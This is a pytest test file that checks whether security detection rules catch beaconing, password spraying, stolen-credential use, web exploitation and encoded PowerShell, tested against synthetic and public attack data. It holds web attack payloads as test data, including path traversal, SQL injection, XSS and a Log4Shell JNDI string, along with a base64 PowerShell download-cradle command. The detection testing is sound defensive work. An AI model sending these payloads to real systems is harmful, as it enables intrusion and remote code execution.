"""T1078, T1071, T1110, T1190 and T1059 with the shipped rules: on public attacks, and on stated streams with hard benign cases.

Streams are drawn from a seed. What is benign looks like the attack in all but what tells them apart: clocks, updates and
health checks are as even as a beacon; an office mistypes; a scanner knocks; administrators encode their scripts.
"""

import gzip
import json
import random

import pytest

from vedette.core.clock import MICROS, to_iso
from vedette.core.content import shipped
from vedette.judge.correlation.correlator import Correlator
from vedette.judge.sigma.detect import Detector
from vedette.judge.sigma.files import RuleFile, rule_files
from vedette.judge.sigma.load import build
from vedette.judge.sigma.logsources import LogSources
from vedette.judge.sigma.ready import Ready
from vedette.run.rules.rule_tests import closure
from vedette.sense.sources import load_sources

SOURCES = load_sources()
START = 1_772_000_000
DAY, HOUR = 86_400, 3_600


@pytest.fixture(scope="module")
def rules():
    return build(rule_files(shipped("rules/sigma")), LogSources({name: one.logsource for name, one in SOURCES.items()}))


def some(rules, *names):
    """Those rules and what they rest on."""
    both = [*rules.rules, *rules.correlations]
    found = closure(rules, [one for one in both if one.name in names])
    assert {one.name for one in [*found.rules, *found.correlations]} >= set(names)
    return found


def run(rules, records):
    """Rule's name -> entities of its signals, over (source, seconds, data), an hour of them a batch."""
    correlator, ready = Correlator(rules.correlations, SOURCES), Ready(rules)
    names = {one.id: one.name for one in rules.correlations}
    signals, tide = [], 0
    for number, (name, at, data) in enumerate(sorted(records, key=lambda one: one[1])):
        source, time = SOURCES[name], START * MICROS + round(at * MICROS)
        field = "timestamp" if name == "web_access" else next(iter(source.definition.time))
        event = source.to_event({**data, field: to_iso(time)}, tenant="t", stream="s", offset=number, ingest_time=time)
        fired = [rule.id for rule, _ in ready.fired(name, event.data)]
        signals += correlator.take("t", correlator.contributions(event, fired))
        if at - tide > HOUR:
            tide = at
            signals += correlator.advance("t", time)
    found = {}
    for signal in [*signals, *correlator.finish("t")]:
        found.setdefault(names[signal.rule_id], []).append({one.id for one in signal.entities})
    return found


def matches(rules, path):
    """Rule ids -> matches over a public file."""
    detector = Detector(rules, SOURCES)
    for _ in detector.run([path]):
        pass
    return detector.tally.matches


def tagged(rules, technique):
    return {one.id for one in [*rules.rules, *rules.correlations] if any(tag.startswith(f"attack.{technique}") for tag in one.tags)}  # fmt: skip


# T1071


def call(host, place, at, port=443):
    return "zeek", at, {"_path": "conn", "uid": f"{host}{at}", "id.orig_h": host, "id.resp_h": place, "id.resp_p": port}


def even_calls(rng, host, place, beat, *, port=443, begin=0):
    period, jitter, missing = beat
    at = begin + rng.random() * period
    while at < DAY:
        if rng.random() >= missing:
            yield call(host, place, at, port)
        at += period * rng.uniform(1 - jitter, 1 + jitter)


def ordinary_day(rng, hosts):
    """What 60 machines do: clocks, updates, mail, health checks, pages read in bursts; all but the last even."""
    for host in hosts:
        yield from even_calls(rng, host, "192.0.2.123", (1_024, 0.01, 0), port=123)
        yield from even_calls(rng, host, "192.0.2.10", (HOUR, 0.02, 0.02))
        yield from even_calls(rng, host, "192.0.2.20", (300, 0.05, 0.05), begin=8 * HOUR)
        for _ in range(rng.randint(5, 25)):
            at, place = rng.uniform(8, 18) * HOUR, f"192.0.2.{rng.randint(30, 250)}"
            for _ in range(rng.randint(1, 40)):
                yield call(host, place, at)
                at += rng.expovariate(1 / 20)
    yield from even_calls(rng, "10.0.0.5", "10.0.9.9", (10, 0, 0))


@pytest.mark.parametrize(("period", "jitter", "missing"), [(60, 0.0, 0.0), (600, 0.2, 0.1), (300, 0.33, 0.2), (1_800, 0.1, 0.25)])  # fmt: skip
def test_a_beacon_is_found_among_clocks_updates_and_checks(rules, period, jitter, missing):
    rng = random.Random(period)
    hosts = [f"10.0.1.{n}" for n in range(60)]
    stream = [*ordinary_day(rng, hosts), *even_calls(rng, "10.0.1.7", "203.0.113.66", (period, jitter, missing))]
    found = run(some(rules, "beacon_to_address"), stream)["beacon_to_address"]
    assert {"10.0.1.7", "203.0.113.66"} in found
    assert len([one for one in found if "203.0.113.66" not in one]) == 0


def test_a_week_without_a_beacon_keeps_to_its_budget(rules):
    rng = random.Random(5)
    hosts = [f"10.0.1.{n}" for n in range(40)]
    total = sum(
        len(run(some(rules, "beacon_to_address"), ordinary_day(rng, hosts)).get("beacon_to_address", []))
        for _ in range(7)
    )
    assert total <= 7


def test_real_traffic_of_many_hosts_has_hardly_a_beacon(rules, shared_data):
    found = matches(some(rules, "beacon_to_address", "beacon_by_name"), shared_data / "network/zeek.ndjson.gz")
    assert sum(found.values()) <= 3


# T1110


def sign_in(user, at, ok, address, *, agent="Browser/1", number=1901, country="Austria"):
    return "identity", at, {
        "eventType": "user.session.start", "actor": {"alternateId": user}, "outcome": {"result": "SUCCESS" if ok else "FAILURE"},
        "client": {"ipAddress": address, "userAgent": {"rawUserAgent": agent}, "geographicalContext": {"country": country}},
        "securityContext": {"asNumber": number},
    }  # fmt: skip


def office(rng, days, people=150):
    """People who sign in each morning from home, office and now and then elsewhere; one in twenty mistypes first."""
    for day in range(days):
        for person in range(people):
            at = day * DAY + rng.gauss(9 * HOUR, HOUR)
            address = "198.51.100.1" if rng.random() < 0.7 else f"198.51.101.{person}"
            for _ in range(rng.choice([0] * 19 + [rng.randint(1, 2)])):
                yield sign_in(f"p{person}@x", at - rng.uniform(5, 60), False, address)
            yield sign_in(f"p{person}@x", at, True, address)


SPRAYS = ("slow_spray", "password_spray", "password_spray_slow", "password_spray_success")


def test_a_burst_of_guesses_is_found(rules):
    burst = [sign_in(f"p{n}@x", 3 * DAY + n * 5, False, "203.0.113.5", agent="T/1") for n in range(40)]
    found = run(some(rules, *SPRAYS), [*office(random.Random(1), 4), *burst])
    assert {"203.0.113.5"} in found["password_spray"]


def test_one_guess_for_each_person_each_hour_is_found(rules):
    """From a new address and with a new program each time: only that so many people fail is unusual."""
    rng = random.Random(2)
    spray = [
        sign_in(f"p{person}@x", 4 * DAY + hour * HOUR + rng.uniform(0, HOUR), False, f"203.{rng.randint(0, 99)}.{person}.{hour}", agent=f"T/{rng.randint(0, 9_999)}")
        for hour in range(6)
        for person in range(60)
    ]  # fmt: skip
    found = run(some(rules, *SPRAYS), [*office(rng, 5), *spray])
    assert set(found) == {"slow_spray"}


def test_caps_lock_and_an_office_are_quiet_for_a_week(rules):
    rng = random.Random(3)
    stuck = [sign_in("p3@x", day * DAY + 8 * HOUR + n * 15, False, "198.51.100.1") for day in range(7) for n in range(40)]  # fmt: skip
    assert run(some(rules, *SPRAYS), [*office(rng, 7), *stuck]) == {}


# T1078


def test_stolen_credentials_of_a_public_attack_are_found(rules, shared_data):
    detector = Detector(some(rules, "instance_credentials_elsewhere"), SOURCES)
    found = {
        one.id
        for signal in detector.run([shared_data / "aws/cloudtrail_campaign.ndjson.gz"])
        for one in signal.entities
    }
    (machine,) = found
    assert machine.endswith("/i-0dbc91f429e48eeed"), "of the two machines the one whose credentials were carried off"


def test_an_account_that_is_used_from_elsewhere_is_found_and_a_week_of_people_is_quiet(rules):
    rng = random.Random(4)
    theft = [sign_in("p9@x", 10 * DAY, True, "203.0.113.8", number=64_500, country="Elsewhere")]
    names = ("sign_in_from_new_country", "entered_then_kept")
    assert run(some(rules, *names), office(rng, 14)) == {}
    assert run(some(rules, *names), [*office(rng, 11), *theft]) == {"sign_in_from_new_country": [{"p9@x"}]}


def test_guessed_entered_and_kept_is_one_alert_with_all_its_events(rules):
    rng = random.Random(6)
    at = 10 * DAY
    attack = [
        *(sign_in("p9@x", at + n * 30, False, "203.0.113.8") for n in range(6)),
        sign_in("p9@x", at + 400, True, "203.0.113.8", number=64_500),
        ("cloudtrail", at + 1_500, {"eventVersion": "1", "eventSource": "iam.amazonaws.com", "eventName": "CreateAccessKey", "userIdentity": {"userName": "p9@x"}}),
    ]  # fmt: skip
    picked = some(rules, "entered_then_kept")
    assert run(picked, [*office(rng, 11), *attack]) == {"entered_then_kept": [{"p9@x"}]}
    assert run(picked, [*office(rng, 11), *attack[:6], attack[7]]) == {}, "without the sign-in from elsewhere"


# T1190


VARIANTS = [
    ("/..%2f..%2fetc/passwd", ""), ("/static/%2e%2e/%2e%2e/conf", ""), ("/d", "file=..%252f..%252fetc%252fpasswd"),
    ("/search", "q=1+UNION+ALL+SELECT+1,2"), ("/p", "id=1%27%20or%201=1"), ("/a", "x=%3Cscript%3Ealert(1)"),
    ("/log", "u=${jndi:ldap://x/a}"), ("/cgi-bin/.%2e/.%2e/bin/sh", ""), ("/.env", ""), ("/vendor/phpunit/src/eval.php", ""),
]  # fmt: skip


def request(address, at, stem, query="", status=404):
    return "web_access", at, {"c-ip": address, "cs-method": "GET", "cs-uri-stem": stem, "cs-uri-query": query, "sc-status": status}  # fmt: skip


def test_every_encoding_counts_and_a_scanner_is_told_once_an_hour(rules):
    for seed in range(5):
        rng = random.Random(seed)
        five = [request("203.0.113.9", n * 10, *one) for n, one in enumerate(rng.sample(VARIANTS, 5))]
        assert run(some(rules, "exploits_tried"), five) == {"exploits_tried": [{"203.0.113.9"}]}
    rng = random.Random(9)
    noise = [request("203.0.113.9", rng.uniform(0, HOUR - 60), *rng.choice(VARIANTS)) for _ in range(2_000)]
    assert len(run(some(rules, "exploits_tried"), noise)["exploits_tried"]) <= 2


def test_shoppers_and_an_exploit_that_worked(rules):
    rng = random.Random(10)
    words = ["select+a+union+suit", "o'neill", "a..b", "drop+shoulder+top", "50%25+off", "etc", "script+font"]
    shop = [request(f"198.51.100.{rng.randint(1, 250)}", rng.uniform(0, DAY), f"/shop/{rng.randint(1, 900)}", f"q={rng.choice(words)}", 200) for _ in range(5_000)]  # fmt: skip
    names = ("exploits_tried", "exploit_answered")
    assert run(some(rules, *names), shop) == {}
    attack = [request("203.0.113.9", 100 + n, *one) for n, one in enumerate(VARIANTS[:4])]
    attack.append(request("203.0.113.9", 500, "/download", "f=../../etc/passwd", 200))
    assert run(some(rules, *names), [*shop, *attack])["exploit_answered"] == [{"203.0.113.9"}]


def test_a_public_exploit_of_a_server_is_found(rules, shared_data):
    found = matches(rules, shared_data / "linux/log4shell.ndjson.gz")
    assert set(found) & (tagged(rules, "t1190") | tagged(rules, "t1059"))


# T1059


def test_a_public_attack_by_an_interpreter_is_found(rules, shared_data, tmp_path):
    with gzip.open(shared_data / "windows/captures.ndjson.gz", "rb") as file:
        capture = [line for line in file if b"execution/host/empire_launcher_vbs" in line]
    (tmp_path / "capture.ndjson").write_bytes(b"".join(capture))
    found = matches(rules, tmp_path / "capture.ndjson")
    assert len(capture) > 1_000
    assert [one for one in tagged(rules, "t1059") if found[one]], "its launcher is a script, and what it starts a shell"


ENCODED = (
    "powershell.exe -NoProfile -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"
)


def test_an_encoded_command_fires_and_the_admins_own_script_on_the_list_does_not(rules, tmp_path):
    picked = [one for one in rules.rules if one.path.endswith("windows/powershell_encoded_command.yml")]
    assert picked
    record = {
        "Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": 1, "Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "OriginalFileName": "PowerShell.EXE", "CommandLine": ENCODED, "ParentImage": "C:\\Windows\\explorer.exe", "@timestamp": "2026-03-02T09:00:00Z",
    }  # fmt: skip
    admin = record | {"ParentImage": "C:\\Program Files\\Deploy\\agent.exe"}
    (tmp_path / "a.ndjson").write_text("\n".join(map(json.dumps, [record, admin])) + "\n")
    places = LogSources({name: one.logsource for name, one in SOURCES.items()})
    file = next(file for file in rule_files(shipped("rules/sigma")) if file.path.endswith("windows/powershell_encoded_command.yml"))  # fmt: skip
    allow = f"""
title: The deployment's own scripts
id: 3c9b8c1e-6a55-4c53-9d12-2f3f6e0a7b11
logsource: {{category: process_creation, product: windows}}
filter:
  rules: [{picked[0].id}]
  selection: {{ParentImage|endswith: "\\\\Deploy\\\\agent.exe"}}
  condition: not selection
"""
    before = matches(build([file], places), tmp_path / "a.ndjson")
    after = matches(build([file, RuleFile("allow.yml", allow.encode())], places), tmp_path / "a.ndjson")
    assert (before[picked[0].id], after[picked[0].id]) == (2, 1)
